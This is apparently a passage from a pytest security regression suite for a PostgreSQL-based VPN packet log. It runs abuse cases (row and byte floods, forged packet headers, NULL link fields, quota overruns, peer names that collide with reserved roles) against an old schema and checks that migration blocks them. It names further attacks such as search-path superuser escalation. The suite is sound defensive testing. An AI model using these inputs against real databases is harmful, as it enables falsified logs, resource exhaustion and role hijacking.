def backwards_effect(t: Target) -> None:
    assert link(t, "peer1", "peer2") == (SENT + 1, SENT + 2, SENT + 1, SENT + 1)


def null_links(t: Target) -> list[Batch]:
    b = batch(t.id("peer1"), [(t.id("peer2"), tx(t, "peer1", "peer2") + 1)])
    b.update(l_dst=None, l_first=None, l_last=None)
    return [b]


def null_links_effect(t: Target) -> None:
    # logged without any compare-and-set on the link: no single writer any more
    assert link(t, "peer1", "peer2") == (SENT, SENT + 1, SENT + 1, SENT + 1)


def unequal(t: Target) -> list[Batch]:
    n = tx(t, "peer1", "peer2")
    b = batch(t.id("peer1"), [(t.id("peer2"), n + 1), (t.id("peer2"), n + 2)])
    b.update(r_src_port=[4000], r_dst_port=[5000], r_offload=[None])
    return [b]


def unequal_effect(t: Target) -> None:
    # arrays of unequal length are padded with NULLs: a UDP row logged without its ports
    assert t.value("SELECT count(*) FROM pgvpn.packet WHERE src_peer = %s AND protocol = 17 "
                   "AND src_port IS NULL", (t.id("peer1"),)) == 1


ROWS_FLOOD = 20_000  # more rows than limits.batch_rows allows (10000)
BYTES_FLOOD = 150  # rows of 60000 bytes: 9 MB, more than limits.batch_bytes (8 MiB)


def many_rows(t: Target) -> list[Batch]:
    n = tx(t, "peer1", "peer2")
    return [batch(t.id("peer1"), [(t.id("peer2"), n + i) for i in range(1, ROWS_FLOOD + 1)])]


def many_bytes(t: Target) -> list[Batch]:
    n = tx(t, "peer1", "peer2")
    return [batch(t.id("peer1"), [(t.id("peer2"), n + i) for i in range(1, BYTES_FLOOD + 1)],
                  payload=b"\x45" + bytes(59_999))]


def logged(rows: int) -> Callable[[Target], None]:
    def effect(t: Target) -> None:
        assert link(t, "peer1", "peer2")[0] == SENT + rows

    return effect


QUOTA = 100_000


def over_quota(t: Target) -> list[Batch]:
    """Two batches of 60 rows of 1000 bytes: 66 kB each with the per-row charge."""
    n = tx(t, "peer1", "peer2")
    first = [(t.id("peer2"), n + i) for i in range(1, 61)]
    second = [(t.id("peer2"), n + i) for i in range(61, 121)]
    big = b"\x45" + bytes(999)
    return [batch(t.id("peer1"), first, payload=big), batch(t.id("peer1"), second, payload=big)]


def set_quota(t: Target) -> None:
    t.admin("UPDATE pgvpn.limits SET peer_bytes_per_day = %s", (QUOTA,))


def huge_row(t: Target) -> list[Batch]:
    """One 2 MB row: within a call's bytes, yet a receiver's page of such rows is gigabytes."""
    n = tx(t, "peer1", "peer2")
    return [batch(t.id("peer1"), [(t.id("peer2"), n + 1)], payload=b"\x45" + bytes(1_999_999))]


def lying_header(t: Target) -> list[Batch]:
    """A 28-byte IPv4 packet logged as a 9999-byte IPv6 one: the operators' byte counts lie."""
    n = tx(t, "peer1", "peer2")
    b = batch(t.id("peer1"), [(t.id("peer2"), n + 1)])
    b.update(r_length=[9999], r_version=[6])
    return [b]


def lying_effect(t: Target) -> None:
    assert t.value("SELECT count(*) FROM pgvpn.packet WHERE src_peer = %s AND length = 9999 "
                   "AND ip_version = 6", (t.id("peer1"),)) == 1


ABUSES = [
    Abuse("send_batch_one_huge_row", huge_row, logged(1)),
    Abuse("send_batch_lying_header", lying_header, lying_effect),
    Abuse("send_batch_seq_ahead", ahead, ahead_effect),
    Abuse("send_batch_dst_not_in_links", unlinked, unlinked_effect),
    Abuse("send_batch_seq_backwards", backwards, backwards_effect),
    Abuse("send_batch_null_links", null_links, null_links_effect),
    Abuse("send_batch_unequal_lengths", unequal, unequal_effect),
    Abuse("send_batch_too_many_rows", many_rows, logged(ROWS_FLOOD)),
    Abuse("send_batch_too_many_bytes", many_bytes, logged(BYTES_FLOOD)),
    Abuse("send_batch_over_quota", over_quota, logged(120), OVER_QUOTA, set_quota),
]


# -- 10. peer names that collide with the project's roles --------------------------------------

class ReservedNames(Attack):
    name = "reserved_peer_names"

    def exploit(self, t: Target) -> None:
        t.peer().execute("SELECT * FROM pgvpn.register_peers(ARRAY['agent', 'reader'])")
        assert t.admin("SELECT db_role FROM pgvpn.peer p JOIN pg_roles r ON r.rolname = "
                       "p.db_role WHERE NOT r.rolcanlogin ORDER BY 1") == [
            ("pgvpn_agent",), ("pgvpn_reader",)]

    def repair(self, t: Target) -> None:
        t.admin("DELETE FROM pgvpn.cursor c USING pgvpn.peer p WHERE p.name IN ('agent', "
                "'reader') AND p.id IN (c.src, c.dst)")
        t.admin("DELETE FROM pgvpn.link l USING pgvpn.peer p WHERE p.name IN ('agent', "
                "'reader') AND p.id IN (l.src, l.dst)")
        t.admin("DELETE FROM pgvpn.peer WHERE name IN ('agent', 'reader')")

    def refused(self, t: Target) -> None:
        assert refused(t.peer(), "SELECT * FROM pgvpn.register_peers(ARRAY['agent'])") == DENIED
        operator = t.login(OPERATOR)
        for name in (*RESERVED, "Agent", "READER", "Housekeeping"):
            assert refused(operator, "SELECT * FROM pgvpn.register_peers(ARRAY[%s])",
                           (name,)) == "23514", name
        assert t.value("SELECT count(*) FROM pgvpn.peer") == 3


ATTACKS: list[Attack] = [
    SuperuserViaSearchPath(),
    RetentionBy("pgvpn_peer1"),
    RetentionBy(READER),
    UnboundedPartitions(),
    ExhaustPeerIds(),
    FakePeer(),
    IndexClosedDays(),
    SquatPeerLock(),
    SquatRetentionLock(),
    SniffChannel(),
    SpoofWakeUp(),
    SessionsAndLocks(),
    PlannerStatistics(),
    LargeObjects(),
    TempTables(),
    ForceRowSecurity(),
    *ABUSES,
    ReservedNames(),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_attack_works_on_v10_and_fails_after_migrate(cluster: Cluster, attack: Attack) -> None:
    database = f"atk_{attack.name}"
    cluster.copy(database)
    target = Target(cluster, database)
    try:
        attack.exploit(target)
        target.close()
        cluster.undo(database)
        attack.repair(target)
        applied = cluster.migrate(database)
        assert applied == list(range(PREVIOUS + 1, schema.LATEST + 1))
        attack.refused(target)
    finally:
        target.close()
        cluster.undo(database)
        cluster.drop(database)


def test_upgrade_with_a_reserved_peer_name_fails_whole(cluster: Cluster) -> None:
    """A v10 database where someone registered a peer called `agent`: the upgrade stops before
    changing anything, rather than leave a half-hardened database."""
    database = "upgrade_reserved"
    cluster.copy(database)
    try:
        cluster.admin("SELECT * FROM pgvpn.register_peers(ARRAY['agent'])", database=database)
        with pytest.raises(psycopg.Error) as info:
            cluster.migrate(database)
        # named, with what to do about it
        assert info.value.sqlstate == BAD_INPUT
        assert "peers named agent" in str(info.value) and "rename" in str(info.value)
        target = Target(cluster, database)
        assert target.value("SELECT max(version) FROM pgvpn.schema_version") == PREVIOUS
        assert target.value("SELECT relowner::regrole::text FROM pg_class "
                            "WHERE oid = 'pgvpn.packet'::regclass") == "postgres"
        # nothing of _harden stayed either (it runs in the same transaction)
        assert target.admin("SELECT has_database_privilege('pgvpn_peer1', current_database(), "
                            "'TEMPORARY'), has_table_privilege('pgvpn_peer1', "
                            "'pg_catalog.pg_stat_activity', 'SELECT'), has_function_privilege("
                            "'pgvpn_peer1', 'pg_advisory_lock(bigint)', 'EXECUTE')") == [
            (True, True, True)]
    finally:
        cluster.drop(database)
